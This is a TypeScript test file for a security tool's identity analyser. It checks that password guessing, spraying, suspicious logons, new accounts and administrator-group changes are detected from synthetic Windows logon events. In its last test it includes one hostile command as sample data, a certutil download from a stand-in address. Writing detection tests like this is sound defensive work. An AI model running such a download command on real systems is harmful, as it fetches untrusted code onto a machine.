import { describe, expect, it } from "vitest";
import type { Alert } from "../model/alert.ts";
import { makeProcess, makeWindows } from "../testing/make-alert.ts";
import { findingIds, run } from "../testing/run-analyser.ts";
import { identityAnalyser } from "./identity-analyser.ts";

const noon = Date.UTC(2026, 0, 2, 12);
const failed = (user: string, at: number, from = "203.0.113.5") =>
  makeWindows("Security/4625", { TargetUserName: user, LogonType: "3", IpAddress: from }, at);
const succeeded = (user: string, at: number, from = "203.0.113.5") =>
  makeWindows(
    "Security/4624",
    { TargetUserName: user, TargetDomainName: "EX", LogonType: "3", IpAddress: from },
    at,
  );
const many = (count: number, make: (i: number) => Alert) => Array.from({ length: count }, (_, i) => make(i));

describe("identityAnalyser", () => {
  it("sees password guessing on one account", () => {
    expect(
      run(
        identityAnalyser,
        many(12, (i) => failed("pat", noon + i * 1000)),
      ).findings[0],
    ).toMatchObject({ id: "guessing:203.0.113.5", technique: "T1110.001", severity: "medium" });
  });

  it("sees password spraying over many accounts", () => {
    expect(
      run(
        identityAnalyser,
        many(12, (i) => failed(`user${i}`, noon + i * 1000)),
      ).findings[0],
    ).toMatchObject({ technique: "T1110.003", detail: "12 failed logons on 12 accounts within 1 minute." });
  });

  it("sees the guess that succeeded", () => {
    const result = run(identityAnalyser, [
      ...many(12, (i) => failed("pat", noon + i * 1000)),
      succeeded("pat", noon + 20_000),
    ]);
    expect(result.findings[0]).toMatchObject({ id: "guessed:203.0.113.5", severity: "critical" });
    expect(result.findings[0]?.citations.length).toBe(2);
  });

  it("takes a logon before the guessing for what it is, and sees the one after it", () => {
    const minute = 60_000;
    const usual = [failed("pat", noon), succeeded("pat", noon + 5 * minute)];
    const guesses = many(11, (i) => failed("pat", noon + (10 + 20 * i) * minute));
    expect(findingIds(run(identityAnalyser, [...usual, ...guesses]))).not.toContain("guessed:203.0.113.5");
    const result = run(identityAnalyser, [...usual, ...guesses, succeeded("pat", noon + 211 * minute)]);
    expect(result.findings[0]).toMatchObject({
      id: "guessed:203.0.113.5",
      detail: "pat logged on after 12 failed logons from the same address.",
    });
  });

  it("takes a few typing errors, or another account's logon, for what they are", () => {
    expect(
      findingIds(
        run(identityAnalyser, [
          ...many(3, (i) => failed("pat", noon + i, "10.0.0.3")),
          succeeded("pat", noon + 5000, "10.0.0.3"),
        ]),
      ),
    ).not.toContain("guessed:10.0.0.3");
    const other = run(identityAnalyser, [
      ...many(12, (i) => failed("pat", noon + i, "10.0.0.3")),
      succeeded("kim", noon + 5000, "10.0.0.3"),
    ]);
    expect(findingIds(other)).not.toContain("guessed:10.0.0.3");
  });

  it("sees logons from outside, and takes those from inside for the usual", () => {
    expect(run(identityAnalyser, [succeeded("pat", noon)]).findings[0]).toMatchObject({ severity: "high" });
    expect(run(identityAnalyser, [succeeded("pat", noon, "10.0.0.3")]).findings[0]).toMatchObject({
      severity: "low",
    });
    expect(run(identityAnalyser, [succeeded("HOST$", noon)]).findings).toEqual([]);
  });

  it("sees accounts made and administrators added", () => {
    const alerts = [
      makeWindows("Security/4720", { TargetUserName: "helper" }),
      makeWindows("Security/4732", { TargetSid: "S-1-5-32-544", TargetUserName: "Administrators" }),
    ];
    expect(findingIds(run(identityAnalyser, alerts))).toEqual(
      expect.arrayContaining(["account-created", "admin-group-changed"]),
    );
  });

  it("names the account behind flagged records, not those behind ordinary ones", () => {
    const result = run(identityAnalyser, [
      makeProcess("certutil -urlcache -f http://192.0.2.1/a a", { User: "EX\\pat" }),
      makeProcess("notepad.exe", { User: "EX\\kim" }),
    ]);
    expect(findingIds(result)).toEqual(["account:ex\\pat"]);
    expect(result.summary).toBe("2 personal accounts in the evidence.");
  });
});
